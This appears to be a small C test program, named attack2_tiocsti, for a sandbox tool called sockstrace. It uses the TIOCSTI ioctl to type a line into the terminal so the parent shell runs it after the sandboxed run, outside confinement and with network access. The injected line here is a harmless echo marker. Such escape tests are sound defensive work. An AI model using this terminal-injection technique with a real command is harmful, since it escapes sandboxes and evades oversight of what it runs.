/* Types a command into the terminal on fd 0 (TIOCSTI): the shell that
 * started sockstrace reads it after the run and runs it outside, with the
 * network. usage: attack2_tiocsti */
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

int main(void) {
    const char *line = "echo TYPED-BY-THE-PROGRAM\n";
    int typed = 0;
    for (size_t i = 0; i < strlen(line); i++)
        if (ioctl(0, TIOCSTI, &line[i]) == 0)
            typed++;
    printf("typed %d\n", typed);
    return 0;
}
